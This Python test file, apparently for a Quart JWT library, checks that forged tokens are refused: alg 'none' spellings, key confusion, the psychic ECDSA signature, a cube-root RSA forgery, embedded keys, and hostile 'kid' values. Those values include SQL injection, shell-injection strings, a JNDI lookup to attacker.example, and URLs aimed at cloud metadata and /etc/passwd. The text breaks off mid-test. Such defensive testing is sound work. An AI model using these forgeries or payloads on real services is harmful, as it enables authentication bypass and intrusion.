"""The attacks of the well-known playbooks, one test for each.

Every attack goes through a protected route of a real application. It has to end in a 4xx answer,
with no view run, and ``decode_token`` has to refuse the token as well. Every test also has its
control: the same request with a good token is let in, before the attack and after it, so that
neither an application that refuses everybody nor one that a bad token spoils can pass.
"""

from __future__ import annotations

import base64
import contextlib
import functools
import hashlib
import hmac
import itertools
import json
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding
from quart import Quart, got_request_exception, session, websocket
from quart.testing.connections import WebsocketResponseError
from werkzeug.datastructures import Headers

import quart_jwt_extended as qje
from support import (
    FAR_FUTURE,
    HASHES,
    LONG_AGO,
    SECRET,
    access_claims,
    b64url,
    bearer,
    hs_token,
    json_segment,
    make_app,
    manager_of,
    refresh_claims,
)
from support.signing_keys import (
    HMAC_ALGORITHMS,
    SIGNERS,
    Signer,
    certificate,
    every_dress,
    private_key,
    public_dresses,
    public_pem,
)

HEADER = {"typ": "JWT", "alg": "HS256"}
ATTACKERS_SECRET = "the secret of somebody else, long enough for HS512 to be content with it, 01234"

NOT_ALLOWED = "The specified alg value is not allowed"
BAD_SIGNATURE = "Signature verification failed"
WRONG_CSRF = (401, {"msg": "CSRF double submit tokens do not match"})
MISSING_CSRF = (401, {"msg": "Missing CSRF token"})

EVERY_VIEW = ("/protected", "/optional", "/fresh", "/refresh")

every_signer = pytest.mark.parametrize("signer", SIGNERS, ids=str)

# The orders of the groups on the curves (SEC 2, section 2).
GROUP_ORDERS = {
    "P-256": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    "P-384": (2**384 - 0x389CB27E0BC8D220A7E5F24DB74F58851313E695333AD68D),
    "P-521": (2**521 - 0x5AE79787C40D069948033FEB708F65A2FC44A36477663B851449048E16EC79BF7),
    "secp256k1": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141,
}
ECDSA_SIGNERS = [signer for signer in SIGNERS if signer.kind in GROUP_ORDERS]
every_ecdsa_signer = pytest.mark.parametrize("signer", ECDSA_SIGNERS, ids=str)


# --- Requests ------------------------------------------------------------------------------------


async def send(app: Quart, path: str = "/protected", method: str = "GET", **request: Any) -> Any:
    """Status and body of the answer."""
    response = await app.test_client().open(path, method=method, **request)
    return response.status_code, await response.get_json()


async def let_in(
    app: Quart, path: str = "/protected", *, identity: Any = "alice", **request: Any
) -> None:
    """The request reaches its view, once, and has this identity there."""
    ran = list(app.calls)
    status, body = await send(app, path, **request)
    assert status == 200, body
    assert (type(body["identity"]), body["identity"]) == (type(identity), identity)
    assert app.calls == [*ran, path.partition("?")[0][1:]]


async def kept_out(app: Quart, path: str = "/protected", **request: Any) -> tuple[int, Any]:
    """The request gets a 4xx answer and reaches no view; return the answer."""
    ran = list(app.calls)
    answer = await send(app, path, **request)
    assert 400 <= answer[0] < 500, answer
    assert app.calls == ran
    return answer


async def fails(app: Quart, error: type[Exception], text: str, **request: Any) -> None:
    """The request ends in this server error, the operator's to mend, and reaches no view."""
    raised: list[Exception] = []

    def note(sender: Quart, exception: Exception, **_: Any) -> None:
        raised.append(exception)

    app.config.update(TESTING=False, PROPAGATE_EXCEPTIONS=False)
    with got_request_exception.connected_to(note, app):
        status, _ = await send(app, **request)
    assert status == 500
    assert [type(each) for each in raised] == [error]
    assert text in str(raised[0])
    assert app.calls == []


async def refused_everywhere(
    app: Quart,
    good: str,
    attacks: Iterable[str],
    *,
    status: int = 422,
    message: str | None = None,
) -> None:
    """No view takes any of the tokens, nor does ``decode_token``; the good token is let in.

    The first token goes to each kind of view, every other one to one kind in turn.
    """
    await let_in(app, headers=bearer(good))
    tried = 0
    for token in attacks:
        for path in EVERY_VIEW if tried == 0 else EVERY_VIEW[tried % 4 :][:1]:
            answer = await kept_out(app, path, headers=bearer(token))
            if answer[1]["msg"] == "Only refresh tokens are allowed" and status == 401:
                # Of an expired token the wrong type is what is answered.
                continue
            assert answer[0] == status, (answer, token)
            assert message in (None, answer[1]["msg"]), (answer, token)
        async with app.app_context():
            with pytest.raises((jwt.InvalidTokenError, qje.JWTExtendedException)):
                qje.decode_token(token)
        tried += 1
    assert tried > 0
    await let_in(app, headers=bearer(good))


def cookies(*pairs: tuple[str, str]) -> dict[str, str]:
    """A Cookie header as a browser writes it."""
    return {"Cookie": "; ".join(f"{name}={value}" for name, value in pairs)}


ACCESS_COOKIE = "access_token_cookie"
REFRESH_COOKIE = "refresh_token_cookie"


# --- Tokens and keys -----------------------------------------------------------------------------


def key_app(signer: Signer, key: Any = None, **options: Any) -> Quart:
    """An application that verifies with the public key of the service."""
    return make_app(
        **{
            "JWT_SECRET_KEY": None,
            "JWT_ALGORITHM": signer.algorithm,
            "JWT_PUBLIC_KEY": key or public_pem(private_key(signer.kind)),
            **options,
        }
    )


def signed(
    signer: Signer,
    *,
    label: str | None = None,
    owner: str = "service",
    header: dict[str, Any] | None = None,
    change: Callable[[bytes], bytes] = bytes,
    **claims: Any,
) -> str:
    """A token by a private key; ``label`` is the algorithm that its header names instead.

    ``change`` gets the signature and gives the one that the token has.
    """
    head = {"typ": "JWT", "alg": label or signer.algorithm, **(header or {})}
    signing_input = f"{json_segment(head)}.{json_segment(access_claims(**claims))}"
    algorithm = jwt.get_algorithm_by_name(signer.algorithm)
    signature = algorithm.sign(signing_input.encode(), private_key(signer.kind, owner))
    return f"{signing_input}.{b64url(change(signature))}"


RSA = Signer("RS256", "RSA")
P256 = Signer("ES256", "P-256")
ED25519 = Signer("EdDSA", "Ed25519")
one_signer_per_kind = pytest.mark.parametrize("signer", [RSA, P256, ED25519], ids=str)


def numbers(signature: bytes) -> tuple[int, int]:
    """The two halves of an ECDSA signature (RFC 7518, section 3.4)."""
    half = len(signature) // 2
    return int.from_bytes(signature[:half], "big"), int.from_bytes(signature[half:], "big")


def raw_signature(first: int, second: int, size: int) -> bytes:
    """Two numbers as an ECDSA signature of ``size`` bytes."""
    return first.to_bytes(size // 2, "big") + second.to_bytes(size // 2, "big")


# --- What a request touches ----------------------------------------------------------------------

# What the interpreter tells of a request that only computes.
# The last is how a log record finds its line.
HARMLESS = {"object.__getattr__", "builtins.id", "sys._getframe"}

_events: list[str] | None = None


def _note_event(event: str, arguments: tuple[Any, ...]) -> None:
    if _events is not None and event not in HARMLESS:
        _events.append(event)


@functools.cache
def _watch() -> None:
    """Audit hooks stay for the life of the process, so there is one, and only if it is needed."""
    sys.addaudithook(_note_event)


@contextlib.contextmanager
def nothing_touched() -> Iterator[None]:
    """No file, socket or process is opened meanwhile, and nothing is imported or executed."""
    global _events
    _watch()
    _events = []
    try:
        yield
        assert _events == []
    finally:
        _events = None


def test_watch_over_files_and_sockets_sees_them(tmp_path: Path) -> None:
    """So that the tests below cannot pass because it is blind."""
    with pytest.raises(AssertionError, match="open"), nothing_touched():
        (tmp_path / "key").write_text("")


# --- Algorithms and signatures -------------------------------------------------------------------

NONE_SPELLINGS = [
    *("".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")),
    *(" none", "none ", "none\0", "none\n", "\tnone", "no\0ne", "none,HS256", "none;HS256"),
    *("n\u043ene", "\uff4e\uff4f\uff4e\uff45", "null", "nil", "undefined", "unsecured"),
]


@pytest.mark.parametrize("signer", [None, RSA, P256, ED25519], ids=str)
async def test_alg_none_in_any_spelling_is_refused(signer: Signer | None) -> None:
    app = make_app() if signer is None else key_app(signer)
    good = hs_token(access_claims()) if signer is None else signed(signer)
    header, payload, signature = good.split(".")

    def attacks() -> Iterator[str]:
        for spelling in NONE_SPELLINGS:
            segment = json_segment({"typ": "JWT", "alg": spelling})
            for end in ("", signature, b64url(b"\0" * 32)):
                yield f"{segment}.{payload}.{end}"
            # Signed, in case somebody checks the signature and then believes the header.
            yield hs_token(access_claims(), header={"typ": "JWT", "alg": spelling})

    await refused_everywhere(app, good, attacks(), message=NOT_ALLOWED)


async def test_alg_none_that_is_configured_is_refused() -> None:
    """As a misconfiguration: the operator cannot allow it either."""
    unsigned = f"{json_segment({'alg': 'none'})}.{json_segment(access_claims())}."
    for options in ({"JWT_ALGORITHM": "none"}, {"JWT_DECODE_ALGORITHMS": ["HS256", "none"]}):
        app = make_app(**options)
        await fails(app, RuntimeError, next(iter(options)), headers=bearer(unsigned))
        app.config.update(JWT_ALGORITHM="HS256", JWT_DECODE_ALGORITHMS=None)
        await let_in(app, headers=bearer(hs_token(access_claims())))
        assert (await kept_out(app, headers=bearer(unsigned)))[0] == 422


async def test_alg_that_is_blank_or_no_string_is_refused(app: Quart) -> None:
    good = hs_token(access_claims())
    values = [
        *("", None, True, False, 0, 1, 256, 1.5, [], {}, ["none"], ["HS256"], ["HS256", "none"]),
        *({"HS256": 1}, {"alg": "HS256"}, [["HS256"]], [None]),
    ]
    attacks = [hs_token(access_claims(), header={"alg": value}) for value in values]
    # PyJWT lets a TypeError out for an unhashable value, where a set holds the allow-list.
    for allowed in (list, tuple, set, frozenset):
        app.config["JWT_DECODE_ALGORITHMS"] = allowed(["HS256", "HS384"])
        await refused_everywhere(app, good, attacks, message=NOT_ALLOWED)
    headers = [{}, {"typ": "JWT"}, {"ALG": "HS256"}, {"alg ": "HS256"}, {"algorithm": "HS256"}]
    attacks = [hs_token(access_claims(), header=header) for header in headers]
    await refused_everywhere(app, good, attacks, message="Algorithm not specified")


@pytest.mark.parametrize("signer", [None, *SIGNERS], ids=str)
async def test_stripped_signature_is_refused(signer: Signer | None) -> None:
    app = make_app() if signer is None else key_app(signer)
    good = hs_token(access_claims()) if signer is None else signed(signer)
    header, payload, signature = good.split(".")
    await refused_everywhere(app, good, [f"{header}.{payload}."], message=BAD_SIGNATURE)
    attacks = [
        *(f"{header}.{payload}", f"{header}.{payload}..", f"{header}.{payload}.=", header),
        *(f"{header}.{payload}.{signature}.", f"{header}.{payload}..{signature}"),
        *(f"{header}..{signature}", f".{payload}.{signature}", f"..{signature}"),
    ]
    await refused_everywhere(app, good, attacks)


@pytest.mark.parametrize("signer", [None, *SIGNERS], ids=str)
async def test_null_signature_is_refused(signer: Signer | None) -> None:
    app = make_app() if signer is None else key_app(signer)
    good = hs_token(access_claims()) if signer is None else signed(signer)
    unsigned, _, signature = good.rpartition(".")
    size = len(base64.urlsafe_b64decode(signature + "=="))
    fillings = [b"\0" * size, b"\xff" * size, b"\1" * size, b"\0" * (size - 1) + b"\1"]
    fillings += [b"\0", b"null", b"\0" * (2 * size), hashlib.sha256(unsigned.encode()).digest()]
    attacks = [f"{unsigned}.{b64url(filling)}" for filling in fillings]
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)


@every_ecdsa_signer
async def test_psychic_signature_is_refused(signer: Signer) -> None:
    """r = s = 0 verifies anything where the ranges are not checked (CVE-2022-21449)."""
    app, good = key_app(signer), signed(signer)
    order = GROUP_ORDERS[signer.kind]
    ends = [0, 1, order - 1, order, order + 1]

    def with_numbers(first: int, second: int) -> str:
        return signed(signer, change=lambda raw: raw_signature(first, second, len(raw)))

    attacks = [with_numbers(*pair) for pair in itertools.product(ends, ends)]
    attacks.append(signed(signer, change=lambda raw: encode_dss_signature(0, 0)))
    attacks.append(signed(signer, change=lambda raw: bytes(len(raw) // 2) + raw[: len(raw) // 2]))
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)


@pytest.mark.parametrize("algorithm", HMAC_ALGORITHMS)
async def test_truncated_or_extended_hmac_is_refused(algorithm: str) -> None:
    app = make_app(JWT_ALGORITHM=algorithm)
    good = hs_token(access_claims(), alg=algorithm)
    unsigned, _, segment = good.rpartition(".")
    signature = base64.urlsafe_b64decode(segment + "==")
    changed = [signature[:size] for size in range(len(signature))]
    changed += [signature + b"\0", signature + signature, b"\0" + signature, signature[1:]]
    attacks = [f"{unsigned}.{b64url(part)}" for part in changed]
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)


async def test_longer_hmac_cut_to_a_shorter_algorithm_is_refused() -> None:
    """A downgrade within the allow-list: the hash follows from the header, whose bytes count."""
    app = make_app(JWT_DECODE_ALGORITHMS=HMAC_ALGORITHMS)
    for algorithm in HMAC_ALGORITHMS:
        await let_in(app, headers=bearer(hs_token(access_claims(), alg=algorithm)))

    def attacks() -> Iterator[str]:
        for made_with, label in itertools.permutations(HMAC_ALGORITHMS, 2):
            segment = json_segment({"typ": "JWT", "alg": label})
            genuine = hs_token(access_claims(), alg=made_with)
            _, payload, signature = genuine.split(".")
            size = HASHES[label]().digest_size
            # The old signature under another header, and one made for that header.
            own = hs_token(access_claims(), alg=made_with, header={"typ": "JWT", "alg": label})
            for end in (signature, own.rpartition(".")[2]):
                raw = base64.urlsafe_b64decode(end + "==")
                yield f"{segment}.{payload}.{b64url(raw[:size].ljust(size, bytes(1)))}"
                yield f"{segment}.{payload}.{end}"

    await refused_everywhere(app, hs_token(access_claims()), attacks(), message=BAD_SIGNATURE)


def hmac_by(secret: bytes) -> list[str]:
    """Tokens for whoever takes ``secret`` for one."""
    return [hs_token(access_claims(), secret=secret, alg=alg) for alg in HMAC_ALGORITHMS]


@pytest.mark.parametrize("listed", [False, True], ids=["own alg only", "HMAC listed"])
@one_signer_per_kind
async def test_public_key_as_hmac_secret_is_refused(signer: Signer, listed: bool) -> None:
    """HS/RS confusion, with the public key in every dress (CVE-2016-5431, CVE-2022-29217)."""
    attacks = [t for dress in every_dress(signer.kind).values() for t in hmac_by(dress)]
    algorithms = [signer.algorithm, *HMAC_ALGORITHMS] if listed else None
    public = private_key(signer.kind).public_key()
    dresses = every_dress(signer.kind)
    for key in (dresses["pem"].decode(), dresses["pem with CRLF"], dresses["ssh"], public):
        # The secret of the sessions must not step in where no secret for tokens is set.
        app = key_app(signer, key, JWT_DECODE_ALGORITHMS=algorithms, SECRET_KEY=ATTACKERS_SECRET)
        session_secret = hs_token(access_claims(), secret=ATTACKERS_SECRET)
        await refused_everywhere(
            app,
            signed(signer),
            [*attacks, session_secret],
            message=NOT_ALLOWED,
        )


@one_signer_per_kind
async def test_public_key_from_a_loader_as_hmac_secret_is_refused(signer: Signer) -> None:
    """The loader gives the same key whatever the token says, as careless ones do."""
    attacks = [t for dress in every_dress(signer.kind).values() for t in hmac_by(dress)]
    dresses = every_dress(signer.kind)
    public = private_key(signer.kind).public_key()
    for key in (dresses["pem"].decode(), dresses["pem with CRLF"], dresses["ssh"], public):
        app = key_app(signer, JWT_DECODE_ALGORITHMS=[signer.algorithm, *HMAC_ALGORITHMS])
        manager_of(app).decode_key_loader(lambda claims, headers, key=key: key)
        await refused_everywhere(app, signed(signer), attacks)


@one_signer_per_kind
async def test_token_signed_again_as_hmac_is_refused(signer: Signer) -> None:
    """A downgrade within an allow-list that spans both families, each with a key of its own."""
    app = key_app(
        signer,
        JWT_SECRET_KEY=SECRET,
        JWT_DECODE_ALGORITHMS=[signer.algorithm, *HMAC_ALGORITHMS],
    )
    good = signed(signer)
    await let_in(app, headers=bearer(hs_token(access_claims(), alg="HS512")))
    header, payload, signature = good.split(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    secrets = [*every_dress(signer.kind).values(), b"", raw, signature.encode(), header.encode()]
    attacks = [token for secret in secrets for token in hmac_by(secret)]
    # The signature that is there already, under a header that names the other family.
    attacks += [f"{json_segment({'alg': alg})}.{payload}.{signature}" for alg in HMAC_ALGORITHMS]
    relabelled = hs_token(access_claims(), header={"alg": signer.algorithm})
    await refused_everywhere(app, good, [*attacks, relabelled], message=BAD_SIGNATURE)


async def test_good_signature_by_an_algorithm_that_is_not_allowed_is_refused() -> None:
    """The right key does not help: the operator may have had a reason against the algorithm."""
    for algorithm in HMAC_ALGORITHMS:
        app = make_app(JWT_ALGORITHM=algorithm)
        good = hs_token(access_claims(), alg=algorithm)
        attacks = [
            hs_token(access_claims(), alg=other) for other in HMAC_ALGORITHMS if other != algorithm
        ]
        await refused_everywhere(app, good, attacks, message=NOT_ALLOWED)
    siblings = [signer for signer in SIGNERS if signer.kind == "RSA"]
    for signer in siblings:
        app = key_app(signer, JWT_SIGNATURE_CACHE_SIZE=10)
        attacks = [signed(other) for other in siblings if other != signer]
        await refused_everywhere(app, signed(signer), attacks, message=NOT_ALLOWED)
        # The name alone, in another case or with something around it, is another name.
        for label in (signer.algorithm.lower(), f"{signer.algorithm} ", f"{signer.algorithm}\0"):
            odd = [signed(signer, label=label)]
            await refused_everywhere(app, signed(signer), odd, message=NOT_ALLOWED)
            with_loader = key_app(signer)
            key = public_pem(private_key("RSA"))
            manager_of(with_loader).decode_key_loader(lambda claims, headers, key=key: key)
            await refused_everywhere(with_loader, signed(signer), odd, message=NOT_ALLOWED)


async def test_signature_of_a_sibling_algorithm_is_refused() -> None:
    """One RSA key serves six algorithms, and no signature counts under another's name."""
    siblings = [signer for signer in SIGNERS if signer.kind == "RSA"]
    app = key_app(RSA, JWT_DECODE_ALGORITHMS=[signer.algorithm for signer in siblings])
    for signer in siblings:
        await let_in(app, headers=bearer(signed(signer)))
    attacks = [
        signed(signer, label=other.algorithm)
        for signer, other in itertools.permutations(siblings, 2)
    ]
    await refused_everywhere(app, signed(RSA), attacks, message=BAD_SIGNATURE)


def test_signer_of_the_attacks_makes_good_tokens() -> None:
    """Their refusal would show nothing otherwise."""
    for signer in SIGNERS:
        key = private_key(signer.kind).public_key()
        assert jwt.decode(signed(signer), key, [signer.algorithm])["identity"] == "alice"


@every_ecdsa_signer
async def test_ecdsa_signature_in_der_is_refused(signer: Signer) -> None:
    app = key_app(signer)
    attacks = [
        signed(signer, change=lambda raw: encode_dss_signature(*numbers(raw))),
        signed(signer, change=lambda raw: b"\0" + raw),
        # Each half one zero byte longer: the same numbers.
        signed(signer, change=lambda raw: raw_signature(*numbers(raw), len(raw) + 2)),
    ]
    await refused_everywhere(app, signed(signer), attacks, message=BAD_SIGNATURE)


@every_ecdsa_signer
async def test_signature_on_another_curve_is_refused(signer: Signer) -> None:
    app, good = key_app(signer), signed(signer)
    others = [other for other in ECDSA_SIGNERS if other != signer]
    # A key of the attacker's on another curve, under the name of the right algorithm.
    attacks = [signed(other, label=signer.algorithm, owner="stranger") for other in others]
    attacks += [signed(other, label=signer.algorithm) for other in others]
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)
    # The header tells the truth, but this algorithm is not allowed.
    await refused_everywhere(app, good, [signed(other) for other in others], message=NOT_ALLOWED)
    # All of them are allowed, and the loader picks keys without a look at the algorithm.
    keys = {other.kind: public_pem(private_key(other.kind)) for other in ECDSA_SIGNERS}
    app = key_app(signer, JWT_DECODE_ALGORITHMS=[each.algorithm for each in ECDSA_SIGNERS])
    manager_of(app).decode_key_loader(lambda claims, headers: keys.get(headers.get("kid")))
    attacks = [signed(other, header={"kid": signer.kind}) for other in others]
    attacks += [
        signed(other, label=signer.algorithm, header={"kid": other.kind}) for other in others
    ]
    await refused_everywhere(app, signed(signer, header={"kid": signer.kind}), attacks)


@every_ecdsa_signer
async def test_second_ecdsa_signature_does_not_outlive_logout(signer: Signer) -> None:
    """From (r, s) anybody gets (r, n - s), which verifies too: a token has two spellings.

    PyJWT accepts both, and so do we. Revocation goes by the ``jti`` in the claims, not by the text
    of the token, so that it covers the second one.
    """
    app = key_app(signer, JWT_BLACKLIST_ENABLED=True, JWT_SIGNATURE_CACHE_SIZE=10)
    revoked: set[str] = set()
    manager_of(app).token_in_blacklist_loader(lambda claims: claims["jti"] in revoked)
    order = GROUP_ORDERS[signer.kind]

    def mirrored(raw: bytes) -> bytes:
        first, second = numbers(raw)
        return raw_signature(first, order - second, len(raw))

    token = signed(signer)
    unsigned, _, segment = token.rpartition(".")
    raw = base64.urlsafe_b64decode(segment + "==")
    second = f"{unsigned}.{b64url(mirrored(raw))}"
    assert second != token
    for _ in range(2):
        await let_in(app, headers=bearer(token))
        await let_in(app, headers=bearer(second))
    revoked.add(access_claims()["jti"])
    for text in (token, second):
        answer = await kept_out(app, headers=bearer(text))
        assert answer == (401, {"msg": "Token has been revoked"})
    await let_in(app, headers=bearer(signed(signer, jti="of another session")))


@functools.cache
def key_with_exponent_three() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=3, key_size=2048)


async def test_rsa_signature_forged_by_a_cube_root_is_refused() -> None:
    """Bleichenbacher's forgery of 2006: a lax parser overlooks what stands behind the hash."""
    key = key_with_exponent_three()
    app = key_app(RSA, public_pem(key))
    good = jwt.encode(access_claims(), key, "RS256")
    unsigned = good.rpartition(".")[0]
    digest_info = bytes.fromhex("3031300d060960864801650304020105000420")
    wanted = b"\0\1" + b"\xff" * 8 + b"\0" + digest_info
    wanted += hashlib.sha256(unsigned.encode()).digest()
    target = int.from_bytes(wanted.ljust(256, b"\0"), "big")
    low, high = 0, 1 << 700
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if middle**3 < target else (low, middle)
    assert (low**3).to_bytes(256, "big").startswith(wanted)
    forged = f"{unsigned}.{b64url(low.to_bytes(256, 'big'))}"
    await refused_everywhere(app, good, [forged], message=BAD_SIGNATURE)


@pytest.mark.parametrize("signer", [None, RSA, P256, ED25519], ids=str)
async def test_changed_claims_under_an_old_signature_are_refused(signer: Signer | None) -> None:
    options = {"JWT_SIGNATURE_CACHE_SIZE": 10}
    app = make_app(**options) if signer is None else key_app(signer, **options)
    good = hs_token(access_claims()) if signer is None else signed(signer)
    header, payload, signature = good.split(".")
    changes: list[dict[str, Any]] = [
        *({"identity": "admin"}, {"fresh": True}, {"type": "refresh"}, {"exp": 2**40}),
        *({"exp": ...}, {"jti": "another"}, {"user_claims": {"admin": True}}, {"scope": "admin"}),
    ]
    segments = [json_segment(access_claims(**change)) for change in changes]
    segments += [json_segment({}), json_segment([]), json_segment(b""), header]
    attacks = [f"{header}.{segment}.{signature}" for segment in segments]
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)
    # The header is signed as well.
    spaced = json_segment(json.dumps(json.loads(base64.urlsafe_b64decode(header + "=="))).encode())
    attacks = [f"{spaced}.{payload}.{signature}"]
    attacks.append(f"{json_segment({**HEADER, 'kid': 'a'})}.{payload}.{signature}")
    await refused_everywhere(app, good, attacks)


@pytest.mark.parametrize("signer", [None, RSA, P256, ED25519], ids=str)
async def test_signature_of_another_token_is_refused(signer: Signer | None) -> None:
    """Both tokens are genuine, known to the application, and let in as what they are."""
    options = {"JWT_SIGNATURE_CACHE_SIZE": 10}
    app = make_app(**options) if signer is None else key_app(signer, **options)
    alice, bob = (
        hs_token(access_claims(identity=name)) if signer is None else signed(signer, identity=name)
        for name in ("alice", "bob")
    )
    await let_in(app, headers=bearer(bob), identity="bob")
    head, ours, our_signature = alice.split(".")
    _, theirs, their_signature = bob.split(".")
    attacks = [f"{head}.{ours}.{their_signature}", f"{head}.{theirs}.{our_signature}"]
    await refused_everywhere(app, alice, attacks, message=BAD_SIGNATURE)
    await let_in(app, headers=bearer(bob), identity="bob")


# --- Header parameters ---------------------------------------------------------------------------


async def test_embedded_jwk_is_not_used() -> None:
    """The key comes with the token (CVE-2018-0114)."""
    app = make_app()
    octets = {"kty": "oct", "k": b64url(ATTACKERS_SECRET.encode()), "alg": "HS256", "kid": "a"}
    headers = [{"jwk": octets}, {"jwk": octets, "kid": "a"}, {"jwk": {**octets, "k": ""}}]
    attacks = [
        hs_token(access_claims(), header={**HEADER, **header}, secret=secret)
        for header in headers
        for secret in (ATTACKERS_SECRET, "")
    ]
    good = hs_token(access_claims(), header={**HEADER, "jwk": octets})
    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)
    for signer in (RSA, P256, ED25519):
        app = key_app(signer)
        jwk = json.loads(public_dresses(private_key(signer.kind, "stranger"))["jwk"])
        attacks = [
            signed(signer, owner="stranger", header={"jwk": jwk}),
            signed(signer, owner="stranger", header={"jwk": {**jwk, "kid": "a"}, "kid": "a"}),
            signed(signer, owner="stranger", header={"jwks": {"keys": [jwk]}}),
        ]
        good = signed(signer, header={"jwk": jwk})
        await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)


ADDRESSES = [
    "http://127.0.0.1:1/keys.json",
    "https://attacker.example/keys.json",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "//attacker.example/keys",
    "ftp://attacker.example/keys",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "data:application/json,{}",
    "\\\\attacker.example\\share\\keys",
]


@pytest.mark.parametrize("name", ["jku", "x5u"])
async def test_address_of_a_key_is_not_visited(name: str) -> None:
    app = key_app(RSA)
    await let_in(app, headers=bearer(signed(RSA)))
    await kept_out(app, headers=bearer(signed(RSA, owner="stranger")))
    for address in ADDRESSES:
        for value in (address, [address], {"url": address}):
            header = {name: value, "kid": "a"}
            with nothing_touched():
                await let_in(app, headers=bearer(signed(RSA, header=header)))
                forged = signed(RSA, owner="stranger", header=header)
                answer = await kept_out(app, headers=bearer(forged))
            assert answer == (422, {"msg": BAD_SIGNATURE})
            async with app.app_context():
                with pytest.raises(jwt.InvalidSignatureError):
                    qje.decode_token(forged)


async def test_embedded_certificate_is_not_used() -> None:
    """``x5c``, with a whole certificate of the attacker's key, and its thumbprints."""
    for signer in (RSA, P256, ED25519):
        app = key_app(signer)
        der = certificate(signer.kind, "stranger").public_bytes(Encoding.DER)
        chain = {
            "x5c": [base64.b64encode(der).decode()],
            "x5t": b64url(hashlib.sha1(der).digest()),
            "x5t#S256": b64url(hashlib.sha256(der).digest()),
        }
        good = signed(signer, header=chain)
        attacks = [signed(signer, owner="stranger", header=chain)]
        await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)


SQL_SECRET = "x" * 64

# By name: hostile texts, and the secrets that somebody who falls for one would verify with.
HOSTILE_KIDS: dict[str, tuple[list[str], list[str | bytes]]] = {
    "path": (
        [
            *(
                "/dev/null",
                "../../../../../../dev/null",
                "..\\..\\..\\NUL",
                "/proc/sys/kernel/hostname",
            ),
            *("file:///dev/null", "....//....//dev/null", "%2e%2e%2fdev%2fnull", "/dev/null\0.pem"),
            *("~/.ssh/id_rsa", "/etc/passwd", "keys/../current", "./current", "current/"),
            "/current",
        ],
        [b"", b"\0", b"\n"],
    ),
    "SQL": (
        [
            *("' OR '1'='1", "' OR 1=1 --", "current' --", "current'/*", "' UNION SELECT NULL --"),
            f"none' UNION SELECT '{SQL_SECRET}' --",
            f'none" UNION SELECT "{SQL_SECRET}" --',
            *("'; DROP TABLE keys; --", "current' AND SLEEP(9) --", "\\' OR 1=1 --"),
            *("%", "_", "*"),
        ],
        [SQL_SECRET, "1", b""],
    ),
    "shell command or template": (
        [
            *("; touch trace", "| touch trace", "$(touch trace)", "`touch trace`"),
            *("&& touch trace &", "\n touch trace\n", "{{ open('trace', 'w') }}"),
            *("__import__('os').system('touch trace')", "${jndi:ldap://attacker.example/a}"),
            *("{0.__class__}", "%s%n%x", "*)(uid=*))(|(uid=*"),
        ],
        [b""],
    ),
    "odd characters": (
        [
            *("\0", "current\0", "\0current", "cur\0rent", "current\n", " current", "current "),
            *("Current", "CURRENT", "\uff43urrent", "curre\u0301nt", "current\u200b"),
            *("\ufeffcurrent", "\ud800", "\udfff\ud800", "current\ud800", "\x1b[2J", "\u202e"),
            "\r\nSet-Cookie: a=b",
        ],
        [b""],
    ),
    "great length": (["k" * 9_000, "../" * 3_000, "\u00e9" * 1_500, ""], [b""]),
}


def app_that_asks(keys: dict[Any, Any]) -> tuple[Quart, list[Any]]:
    """An application that looks its keys up by ``kid``, and what was looked up."""
    app = make_app()
    asked: list[Any] = []

    @manager_of(app).decode_key_loader
    def find(claims: dict[str, Any], headers: dict[str, Any]) -> Any:
        asked.append(headers["kid"])
        return keys.get(headers["kid"])

    return app, asked


@pytest.mark.parametrize("kind", HOSTILE_KIDS)
async def test_hostile_kid_finds_no_key(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The loader gets the text as it is; a key that it does not know verifies nothing."""
    kids, secrets = HOSTILE_KIDS[kind]
    app, asked = app_that_asks({"current": SECRET})
    without_loader = make_app()
    good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
    stranger = hs_token(access_claims(), header={**HEADER, "kid": "stranger"})
    await refused_everywhere(app, good, [stranger])
    monkeypatch.chdir(tmp_path)
    for kid in kids:
        # A lone surrogate could not go into any answer or log.
        is_text = kid == kid.encode("utf-8", "ignore").decode()
        for secret in (*secrets, SECRET, ATTACKERS_SECRET, kid.encode("utf-8", "surrogatepass")):
            token = hs_token(access_claims(), header={**HEADER, "kid": kid}, secret=secret)
            asked.clear()
            with nothing_touched():
                answer = await kept_out(app, headers=bearer(token))
            assert answer[0] == 422
            assert asked == ([kid] if is_text else [])
            async with app.app_context():
                with pytest.raises(jwt.InvalidTokenError):
                    qje.decode_token(token)
        if is_text:
            # Where no loader asks for it, it means nothing.
            token = hs_token(access_claims(), header={**HEADER, "kid": kid})
            await let_in(without_loader, headers=bearer(token))
    await let_in(app, headers=bearer(good))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("ensure_ascii", [True, False], ids=["ASCII", "UTF-8"])
async def test_reason_holds_no_text_of_an_unsigned_token(ensure_ascii: bool) -> None:
    """Nor does an answer fail over it, whichever JSON provider writes it."""
    app = make_app(JWT_ERROR_FORMAT="problem")
    app.json.ensure_ascii = ensure_ascii  # type: ignore[attr-defined]
    marks = ["<script>marked</script>", "\ud800marked", "marked\r\nX-Header: 1"]
    claims = access_claims(identity="marked", jti="marked", iss="marked", aud="marked")
    for mark in marks:
        headers: list[dict[str, Any]] = [
